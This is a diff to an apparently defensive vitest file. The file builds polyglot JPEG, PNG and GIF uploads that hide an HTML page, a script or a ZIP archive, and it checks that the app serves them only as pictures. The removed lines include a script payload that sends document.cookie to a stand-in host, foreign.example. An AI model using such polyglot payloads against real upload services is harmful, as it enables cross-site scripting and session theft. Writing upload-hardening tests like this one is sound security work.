@@ -1,19 +1,18 @@
 import { buffer } from 'node:stream/consumers';
 import { expect, test } from 'vitest';
-import { animated, filePart, jpeg, png } from '../../testing/pictures.ts';
+import { filePart, jpeg, png } from '../../testing/pictures.ts';
 import { testApp } from '../../testing/test-app.ts';
 
-/** Files that are two things at once: a picture to a decoder, and a page, a script or an archive to another program. */
+/** Files that are two things at once: a picture to a decoder, and a page or an archive to another program. */
 
 const page = Buffer.from('<!doctype html><script>alert("foreign")</script>');
-const script = Buffer.from('*/=1;fetch("//foreign.example/"+document.cookie)//');
 /** An archive is read from its end: bytes before it are ignored. */
 const archive = Buffer.concat([
   Buffer.from('PK\x03\x04foreign.html', 'latin1'),
   page,
   Buffer.from('PK\x05\x06'.padEnd(22, '\0'), 'latin1'),
 ]);
-const foreign = ['foreign', '<script', 'document.cookie', 'PK\x03\x04', 'PK\x05\x06'];
+const foreign = ['foreign', '<script', 'PK\x03\x04', 'PK\x05\x06'];
 
 /** With a comment behind the first two bytes, and more behind the end. */
 function jpegAnd(photo: Buffer, comment: Buffer, behind: Buffer): Buffer {
@@ -22,22 +21,11 @@ function jpegAnd(photo: Buffer, comment: Buffer, behind: Buffer): Buffer {
   return Buffer.concat([photo.subarray(0, 2), head, comment, photo.subarray(2), behind]);
 }
 
-/** With a comment before the first frame, and more behind the end. */
-function gifAnd(animation: Buffer, comment: Buffer, behind: Buffer): Buffer {
-  const first = animation.indexOf(Buffer.from([0x21, 0xf9]));
-  const remark = [Buffer.from([0x21, 0xfe, comment.length]), comment, Buffer.from([0])];
-  return Buffer.concat([animation.subarray(0, first), ...remark, animation.subarray(first), behind]);
-}
-
 const files = {
   'a JPEG with a page in its comment and an archive behind it': async () =>
     filePart(jpegAnd(await jpeg(900, 700), page, archive), 'party.html', 'text/html'),
-  'a JPEG with a script in its comment and a page behind it': async () =>
-    filePart(jpegAnd(await jpeg(), script, page), 'party.js', 'text/javascript'),
   'a PNG with an archive behind it': async () =>
     filePart(Buffer.concat([await png(), page, archive]), 'party.zip', 'application/zip'),
-  'an animation with a script in its comment and an archive behind it': async () =>
-    filePart(gifAnd(await animated('gif'), script, archive), 'party.js', 'text/javascript'),
 };
 
 test.each(Object.entries(files))('%s is served as a picture and nothing else', async (_what, make) => {
